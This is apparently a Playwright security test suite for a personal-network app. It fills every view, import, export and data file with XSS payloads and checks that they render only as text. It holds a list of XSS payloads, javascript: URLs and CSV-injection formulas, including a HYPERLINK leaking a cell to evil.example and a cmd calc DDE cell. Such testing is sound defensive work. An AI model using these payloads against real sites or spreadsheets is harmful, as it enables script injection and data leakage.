import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { expect, startKithServer, test, type KithServer } from './support/server';

/*
 * The XSS corpus: people, ties, communities, opportunities, an import and a
 * broken data file whose every text is a script payload, rendered in every
 * view there is. Nothing may run: a sentinel (window.__xss) stays undefined,
 * no Content-Security-Policy violation is reported (the page's own event or
 * the console), no alert opens, no element or request is born from a payload.
 */

const ROOT = resolve(import.meta.dirname, '../..');

/** Payloads, each trying another way in; all of them set window.__xss or fetch `x`/evil.example if they ever run. */
const PAYLOADS = [
  '<img src=x onerror=window.__xss=1>',
  '"><svg onload=window.__xss=1>',
  '</script><script>window.__xss=1</script>',
  "' onmouseover='window.__xss=1' x='",
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:window.__xss=1">click me</a>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '{{constructor.constructor("window.__xss=1")()}}',
  '<style>@import "http://evil.example/x.css";</style>',
  '<img src="http://evil.example/x.png">',
];
/** Cells a spreadsheet would run as formulas (OWASP CSV injection). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(A1:A9)', '\t=1+1'];
const URLS = [
  'javascript:window.__xss=1',
  'javascript:alert(1)',
  'data:text/html,<script>window.__xss=1</script>',
  'JaVaScRiPt:window.__xss=1',
  'https://evil.example/"><img src=x onerror=window.__xss=1>',
];

interface Signals {
  readonly sentinel: unknown;
  readonly violations: readonly string[];
  readonly injected: readonly string[];
}

/** Installs the watchers before any page script runs. */
async function watch(page: Page): Promise<{ console: string[]; dialogs: string[]; requests: string[]; errors: string[] }> {
  const seen = { console: [] as string[], dialogs: [] as string[], requests: [] as string[], errors: [] as string[] };
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`),
    );
  });
  page.on('console', (msg) => {
    if (/Content Security Policy|Refused to (execute|load|apply|connect|frame)/i.test(msg.text())) seen.console.push(msg.text());
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (/evil\.example/.test(url) || /\/x(\.png|\.css)?$/.test(new URL(url, 'http://x/').pathname)) seen.requests.push(url);
  });
  page.on('pageerror', (err) => seen.errors.push(err.message));
  page.on('popup', (popup) => seen.dialogs.push(`popup: ${popup.url()}`));
  return seen;
}

/** The sentinel, CSP reports and any element or attribute a payload could have created. */
async function signals(page: Page): Promise<Signals> {
  return page.evaluate(() => {
    const w = window as unknown as { __xss?: unknown; __cspViolations?: string[] };
    const injected: string[] = [];
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        if (/^on/i.test(attr.name)) injected.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
        if (/^(href|src|action|formaction|xlink:href|srcdoc)$/i.test(attr.name) && /^\s*(javascript|data:text\/html)/i.test(attr.value))
          injected.push(`<${el.tagName.toLowerCase()} ${attr.name}=${attr.value}>`);
      }
    }
    for (const el of document.querySelectorAll('iframe, object, embed, img[src="x"], svg animate, script:not([src])'))
      injected.push(`<${el.tagName.toLowerCase()}>`);
    return { sentinel: w.__xss, violations: w.__cspViolations ?? [], injected };
  });
}

async function api(kith: KithServer, channel: string, input: unknown): Promise<unknown> {
  const url = new URL(kith.url);
  const response = await fetch(`${url.origin}/api/${channel}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${url.searchParams.get('token') ?? ''}`, 'Content-Type': 'application/json' },
    body: JSON.stringify(input),
  });
  const body = (await response.json()) as { ok: boolean; value?: unknown; error?: { message: string } };
  if (!body.ok) throw new Error(`${channel}: ${body.error?.message ?? response.status}`);
  return body.value;
}

const cut = (text: string, max: number) => text.slice(0, max);

/** People, ties, communities and opportunities made of payloads, through the API as any front end would send them. */
async function seed(kith: KithServer): Promise<{ names: string[]; ids: string[] }> {
  const network = (await api(kith, 'network:get', {})) as { file: { meId: string } };
  const me = network.file.meId;
  await api(kith, 'person:update', { id: me, patch: { name: `Me ${PAYLOADS[0]}` } });
  const community = (await api(kith, 'community:create', {
    name: PAYLOADS[1],
    kind: 'community',
    url: URLS[0],
    notes: PAYLOADS.join('\n'),
  })) as { id: string };
  const names: string[] = [];
  const ids: string[] = [];
  for (const [i, payload] of PAYLOADS.entries()) {
    const person = (await api(kith, 'person:create', {
      name: cut(payload, 200),
      company: cut(PAYLOADS[(i + 1) % PAYLOADS.length] ?? '', 200),
      position: cut(PAYLOADS[(i + 2) % PAYLOADS.length] ?? '', 300),
      url: URLS[i % URLS.length],
      email: `"><img src=x onerror=window.__xss=1>${i}@example.org`,
      tags: [cut(payload, 80), 'xss'],
      interests: ['service design', cut(payload, 80)],
      needs: i % 2 ? ['service design'] : [],
      offers: i % 2 ? [] : ['service design'],
      communities: [community.id],
      notes: PAYLOADS.join('\n'),
    })) as { id: string };
    names.push(cut(payload, 200));
    ids.push(person.id);
    await api(kith, 'tie:create', {
      a: person.id,
      b: me,
      origin: i % 3 === 0 ? 'doing' : 'living',
      ...(i % 3 === 0 ? {} : { activity: 'curiosity-conversation' }),
      strength: 1 + (i % 5),
      notes: PAYLOADS.join('\n'),
    });
  }
  for (let i = 1; i < ids.length - 2; i += 3) {
    await api(kith, 'tie:create', { a: ids[i], b: ids[i + 1], origin: 'living', activity: 'sharing-information', notes: PAYLOADS[i] });
  }
  for (const [i, payload] of PAYLOADS.slice(0, 4).entries()) {
    await api(kith, 'opportunity:create', {
      title: cut(payload, 200),
      kind: 'job',
      through: ids[i],
      company: payload,
      community: community.id,
      notes: PAYLOADS.join('\n'),
      date: `2026-0${i + 1}-15`,
    });
  }
  return { names, ids };
}

/** Hostile LinkedIn export files: names, companies, positions and URLs as payloads; one row with unbalanced quotes. */
function hostileConnectionsCsv(): string {
  const rows = PAYLOADS.map((p, i) => [
    `Imp${i} ${p}`,
    p,
    `https://www.linkedin.com/in/${encodeURIComponent(`xss-${i}-${p}`)}`,
    `imported${i}@x.org`,
    p,
    p,
    '15 Jan 2024',
  ]);
  rows.push(['Url', 'Only', URLS[0] ?? '', '', PAYLOADS[0] ?? '', '', '16 Jan 2024']);
  const quote = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
  const lines = [
    'Notes:',
    '"When exporting your connection data, you may notice that some of the email addresses are missing."',
    '',
    'First Name,Last Name,URL,Email Address,Company,Position,Connected On',
  ];
  for (const row of rows) lines.push(row.map(quote).join(','));
  lines.push('"<img src=x onerror=window.__xss=1>,broken,,,,,15 Jan 2024');
  return `${lines.join('\n')}\n`;
}

async function clickNode(page: Page, id: string): Promise<void> {
  const point = await page.evaluate((i) => window.__kithGraph?.pagePoint('node', i) ?? null, id);
  if (!point) throw new Error(`node ${id} is not on the graph`);
  await page.mouse.move(point.x, point.y);
  await page.mouse.click(point.x, point.y);
}

async function dismissToasts(page: Page): Promise<void> {
  const close = page.getByTestId('toast').getByRole('button', { name: 'Dismiss' });
  while ((await close.count()) > 0) await close.first().click();
}

/** Screenshots to look at, outside Playwright's output folder (which every run empties). */
async function shot(page: Page, name: string): Promise<void> {
  await mkdir(resolve(ROOT, '.tmp/xss'), { recursive: true });
  await page.screenshot({ path: resolve(ROOT, `.tmp/xss/${name}.png`) });
}

/** Runs a view's steps and records it; a step that fails names the view. */
async function view(visited: string[], page: Page, name: string, steps: () => Promise<void>): Promise<void> {
  await test.step(name, steps);
  visited.push(name);
  const s = await signals(page);
  expect(s.sentinel, `a script ran in the ${name} view`).toBeUndefined();
  expect(s.violations, `CSP violations in the ${name} view`).toEqual([]);
  expect(s.injected, `elements or attributes born from a payload in the ${name} view`).toEqual([]);
}

test('the XSS corpus renders as text in every view: no script runs, no CSP violation, no injected element', async ({ page, kith }) => {
  test.setTimeout(180_000);
  const seen = await watch(page);
  const { names, ids } = await seed(kith);
  const visited: string[] = [];
  const fixtureDir = await mkdtemp(join(tmpdir(), 'kith-xss-'));

  try {
    await page.goto(kith.url);
    await view(visited, page, 'graph labels', async () => {
      await expect
        .poll(async () => await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))
        .toBeGreaterThan(PAYLOADS.length);
      const labels = await page.evaluate(() => window.__kithGraph?.snapshot().nodes.map((n) => n.label) ?? []);
      for (const name of names)
        expect(
          labels.some((l) => l.includes(name.slice(0, 12))),
          `label of ${name}`,
        ).toBe(true);
      for (const id of ids) {
        const point = await page.evaluate((i) => window.__kithGraph?.pagePoint('node', i) ?? null, id);
        if (point) await page.mouse.move(point.x, point.y);
      }
      await shot(page, 'graph');
    });

    await view(visited, page, 'person panels', async () => {
      for (const [i, id] of ids.entries()) {
        await clickNode(page, id);
        await expect(page.getByTestId('panel-title')).toHaveText(names[i] ?? '');
      }
      await shot(page, 'person-panel');
    });

    await view(visited, page, 'tie panel', async () => {
      const edge = await page.evaluate(() => window.__kithGraph?.snapshot().edges[0]?.id ?? null);
      if (!edge) throw new Error('no edge on the graph');
      const point = await page.evaluate((e) => window.__kithGraph?.pagePoint('edge', e) ?? null, edge);
      if (!point) throw new Error('the edge has no point');
      await page.keyboard.press('Escape');
      await page.mouse.click(point.x, point.y);
      await expect(page.getByTestId('side-panel')).toBeVisible();
      await shot(page, 'tie-panel');
    });

    await view(visited, page, 'paths search and results', async () => {
      await page.getByTestId('insights-tab-paths').click();
      await page.getByTestId('paths-target').fill('<img');
      await expect(page.getByTestId('paths-option').first()).toBeVisible();
      await page.getByTestId('paths-option').first().click();
      await expect(page.getByTestId('paths-result').or(page.getByTestId('insights-error'))).toBeVisible();
      await page.getByTestId('paths-target').fill('svg onload');
      await page.waitForTimeout(300);
      await shot(page, 'paths');
    });

    for (const tab of ['reach', 'opportunities', 'intros', 'style'] as const) {
      await view(visited, page, `${tab} view`, async () => {
        await page.getByTestId(`insights-tab-${tab}`).click();
        await expect(page.getByTestId(`insights-${tab}`)).toBeVisible();
        await page.waitForTimeout(400);
        if (tab === 'intros' && (await page.getByTestId('intro-make').count()) > 0) {
          await page.getByTestId('intro-make').first().click();
          await expect(page.getByTestId('intro-draft')).toBeVisible();
          await expect(page.getByTestId('intro-draft-text')).not.toHaveValue('');
        }
        await shot(page, tab);
      });
    }

    await view(visited, page, 'toolbar search', async () => {
      const search = page.getByRole('combobox', { name: 'Find a person' });
      await search.fill('<img');
      await expect(page.getByRole('option').first()).toBeVisible();
      await shot(page, 'search');
      await search.fill('');
      await page.keyboard.press('Escape');
    });

    await view(visited, page, 'add-person dialog', async () => {
      await page.keyboard.press('Escape');
      await page.getByTestId('toolbar-add-person').click();
      const dialog = page.getByRole('dialog', { name: 'Add a person' });
      await expect(dialog).toBeVisible();
      await page.getByTestId('add-name').fill(PAYLOADS[2] ?? '');
      await page.getByTestId('add-notes').fill(PAYLOADS.join('\n'));
      await page.getByTestId('add-submit').click();
      await expect(dialog).toBeHidden();
      await dismissToasts(page);
    });

    await view(visited, page, 'connect dialog and person search', async () => {
      await page.keyboard.press('Escape');
      await page.getByTestId('toolbar-connect').click();
      const dialog = page.getByRole('dialog', { name: 'Connect two people' });
      await expect(dialog).toBeVisible();
      await page.getByTestId('connect-b').fill('<');
      await expect(dialog.getByRole('option').first()).toBeVisible();
      await shot(page, 'connect');
      await page.keyboard.press('Escape');
      await page.keyboard.press('Escape');
    });

    const csvPath = join(fixtureDir, 'Connections.csv');
    await writeFile(csvPath, hostileConnectionsCsv());
    await view(visited, page, 'import preview, commit, triage and history', async () => {
      const chooser = page.waitForEvent('filechooser');
      await page.getByTestId('toolbar-import').click();
      await (await chooser).setFiles({ name: `${PAYLOADS[0]}.csv`, mimeType: 'text/csv', buffer: Buffer.from(hostileConnectionsCsv()) });
      await expect(page.getByTestId('import-report')).toBeVisible();
      await shot(page, 'import-preview');
      await page.getByTestId('import-commit').click();
      await expect(page.getByTestId('import-start-triage')).toBeVisible();
      await shot(page, 'import-done');
      await page.getByTestId('import-start-triage').click();
      await expect(page.getByTestId('triage-name')).toBeVisible();
      await expect(page.getByTestId('triage-name')).toContainText('Imp');
      await shot(page, 'triage');
      await page.getByTestId('triage-close').click();
      await page.getByTestId('open-import-history').click();
      await expect(page.getByTestId('import-history-row').first()).toBeVisible();
      await shot(page, 'import-history');
      await page.keyboard.press('Escape');
    });

    await view(visited, page, 'import refusal message', async () => {
      const chooser = page.waitForEvent('filechooser');
      await page.getByTestId('toolbar-import').click();
      await (
        await chooser
      ).setFiles({ name: `${PAYLOADS[1]}.csv`, mimeType: 'text/csv', buffer: Buffer.from(`id,title\n1,${PAYLOADS[0]}\n`) });
      await expect(page.getByTestId('import-error-message')).toContainText(PAYLOADS[1] ?? '');
      await shot(page, 'import-error');
      await page.keyboard.press('Escape');
      await dismissToasts(page);
    });

    await view(visited, page, 'exports', async () => {
      for (const formula of FORMULAS) await api(kith, 'person:create', { name: formula, company: formula, notes: formula });
      const graphml = (await api(kith, 'network:export', { format: 'graphml' })) as { content: string };
      const csv = (await api(kith, 'network:export', { format: 'csv' })) as { content: string };
      const json = (await api(kith, 'network:export', { format: 'json' })) as { content: string };
      const elements = await page.evaluate((xml) => {
        const doc = new DOMParser().parseFromString(xml, 'application/xml');
        if (doc.querySelector('parsererror')) return ['parsererror'];
        return [...new Set([...doc.getElementsByTagName('*')].map((el) => el.localName))];
      }, graphml.content);
      expect(elements.filter((e) => !['graphml', 'key', 'default', 'graph', 'node', 'edge', 'data'].includes(e))).toEqual([]);
      expect(graphml.content).toContain('&lt;img src=x onerror=window.__xss=1&gt;');
      const cells = Papa.parse<string[]>(csv.content.replace(/^\uFEFF/, '')).data.flat();
      for (const formula of FORMULAS) expect(cells, `the CSV holds ${formula} as text`).toContain(`'${formula}`);
      expect(
        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
        'CSV cells a spreadsheet would run',
      ).toEqual([]);
      expect(() => JSON.parse(json.content) as unknown).not.toThrow();
      await page.evaluate((text) => {
        // An export shown in the page (as a preview would) stays text.
        const pre = document.createElement('pre');
        pre.textContent = text;
        document.body.append(pre);
        pre.remove();
      }, graphml.content);
    });

    await page.reload();
    await view(visited, page, 'reload', async () => {
      await expect
        .poll(async () => await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0))
        .toBeGreaterThan(PAYLOADS.length);
    });

    const final = await signals(page);
    expect(final.sentinel, 'window.__xss').toBeUndefined();
    expect(final.violations, 'securitypolicyviolation events').toEqual([]);
    expect(seen.console, 'CSP reports on the console').toEqual([]);
    expect(seen.dialogs, 'alerts, confirms or popups').toEqual([]);
    expect(seen.requests, 'requests made by injected elements').toEqual([]);
    expect(seen.errors, 'page errors').toEqual([]);
    expect(visited.length).toBe(15);
    // `npm run stress` reads these figures for its table.
    if (process.env['KITH_XSS_FIGURES']) {
      await writeFile(
        process.env['KITH_XSS_FIGURES'],
        JSON.stringify({
          payloads: PAYLOADS.length + URLS.length + FORMULAS.length,
          views: visited,
          sentinel: final.sentinel ?? null,
          violations: final.violations.length + seen.console.length,
          injected: final.injected.length,
          dialogs: seen.dialogs.length,
          requests: seen.requests.length,
        }),
      );
    }
  } finally {
    await rm(fixtureDir, { recursive: true, force: true });
  }
});

test('a broken data file whose content and backups hold payloads: the problem dialog and the restored network stay text', async ({
  page,
}) => {
  const dir = await mkdtemp(join(tmpdir(), 'kith-xss-file-'));
  const dataPath = join(dir, 'kith.json');
  // versionOf quotes the found value in its message: the dialog shows a payload from the file itself.
  await writeFile(dataPath, JSON.stringify({ schemaVersion: PAYLOADS[0], people: [{ id: PAYLOADS[1], name: PAYLOADS[2] }] }));
  await mkdir(join(dir, 'kith.backups'));
  const backup = {
    schemaVersion: 1,
    meId: 'me',
    people: [
      { id: 'me', name: PAYLOADS[3] },
      { id: 'p1', name: PAYLOADS[0], notes: PAYLOADS.join('\n') },
    ],
    ties: [{ id: 't1', a: 'p1', b: 'me', origin: 'living' }],
    communities: [],
    opportunities: [],
  };
  await writeFile(join(dir, 'kith.backups', 'kith-2026-01-01T00-00-00-000Z.json'), JSON.stringify(backup));
  const kith = await startKithServer({ dataPath });
  try {
    const seen = await watch(page);
    await page.goto(kith.url);
    await expect(page.getByTestId('restore-newest')).toBeVisible();
    await expect(page.getByRole('dialog')).toContainText(PAYLOADS[0] ?? '');
    await shot(page, 'file-problem');
    let s = await signals(page);
    expect(s).toEqual({ sentinel: undefined, violations: [], injected: [] });
    await page.getByTestId('restore-newest').click();
    await expect.poll(async () => await page.evaluate(() => window.__kithGraph?.snapshot().nodes.length ?? 0)).toBe(2);
    s = await signals(page);
    expect(s).toEqual({ sentinel: undefined, violations: [], injected: [] });
    expect(seen.console).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.requests).toEqual([]);
    expect(seen.errors).toEqual([]);
  } finally {
    await kith.stop();
    await rm(dir, { recursive: true, force: true });
  }
});

test('the sentinel and the CSP watchers work: an inline script and a javascript: URL are caught in the served page', async ({
  page,
  kith,
}) => {
  const seen = await watch(page);
  await page.goto(kith.url);
  await expect(page.getByTestId('statusbar')).toBeVisible();
  // Injected the way a bug would (bypassing React): the CSP must block it and the watchers must see it.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__xss = 1';
    document.body.append(script);
    const a = document.createElement('a');
    a.href = 'javascript:window.__xss=2';
    document.body.append(a);
    a.click();
    a.remove();
  });
  await page.waitForTimeout(300);
  const s = await signals(page);
  expect(s.sentinel, 'the CSP stops the inline script').toBeUndefined();
  expect(s.violations.length, 'the securitypolicyviolation listener saw it').toBeGreaterThan(0);
  expect(seen.console.length, 'the console collector saw it').toBeGreaterThan(0);
});
